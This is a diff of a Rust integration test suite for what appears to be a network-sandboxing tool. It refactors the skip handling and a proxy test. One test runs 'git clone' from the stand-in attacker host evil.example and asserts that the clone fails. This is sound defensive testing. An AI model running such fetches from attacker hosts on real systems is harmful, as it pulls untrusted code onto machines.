@@ -20,7 +20,7 @@ struct Env {
 
 impl Env {
     fn new() -> Env {
-        let dir = tempfile::tempdir_in(test_base()).unwrap();
+        let dir = outside_tmp();
         for d in ["home/.ssh", "work"] {
             std::fs::create_dir_all(dir.path().join(d)).unwrap();
         }
@@ -557,9 +557,7 @@ fn c_probe(env: &Env) -> Option<PathBuf> {
     match Command::new("cc").args(["-O1", "-pthread", "-o"]).arg(&bin).arg(&src).output() {
         Ok(o) if o.status.success() => Some(bin),
         other => {
-            let why = format!("cannot build {}: {other:?}", src.display());
-            assert!(std::env::var_os("SRT_MUST_WORK").is_none_or(|v| v != "1"), "{why}");
-            eprintln!("skipped: {why}");
+            skip(format!("cannot build {}: {other:?}", src.display()));
             None
         }
     }
@@ -1203,20 +1201,17 @@ fn git_clone_and_node_through_the_proxy() {
     let o = env.sh(&settings, "NO_PROXY= no_proxy= git clone -q http://evil.example/repo.git x; echo rc=$?");
     assert!(out(&o).contains("rc=128"), "{}{}", out(&o), err(&o));
     let has_node = Command::new("node").arg("--version").output().is_ok();
-    let must = std::env::var_os("SRT_MUST_WORK").is_some_and(|v| v == "1");
-    assert!(has_node || !must, "node is missing and SRT_MUST_WORK=1 (scripts/setup.sh installs nodejs)");
     if !has_node {
-        eprintln!("skipped: the Node client (node is not installed)");
+        skip("the Node client: node is not installed (scripts/setup.sh installs nodejs)");
+        return;
     }
-    if has_node {
-        let js = format!(
-            "const p = new URL(process.env.HTTP_PROXY); require('http').get({{host: p.hostname, port: p.port, \
-             path: 'http://127.0.0.1:{port}/repo.git/HEAD'}}, r => {{ let b=''; r.on('data', d => b += d); \
-             r.on('end', () => console.log(r.statusCode, b.trim())); }});"
-        );
-        let o = env.cmd(&settings, &["--", "node", "-e", &js]).output().unwrap();
-        assert!(out(&o).trim().starts_with("200 ref: refs/heads/"), "{}{}", out(&o), err(&o));
-    }
+    let js = format!(
+        "const p = new URL(process.env.HTTP_PROXY); require('http').get({{host: p.hostname, port: p.port, \
+         path: 'http://127.0.0.1:{port}/repo.git/HEAD'}}, r => {{ let b=''; r.on('data', d => b += d); \
+         r.on('end', () => console.log(r.statusCode, b.trim())); }});"
+    );
+    let o = env.cmd(&settings, &["--", "node", "-e", &js]).output().unwrap();
+    assert!(out(&o).trim().starts_with("200 ref: refs/heads/"), "{}{}", out(&o), err(&o));
 }
 
 #[test]
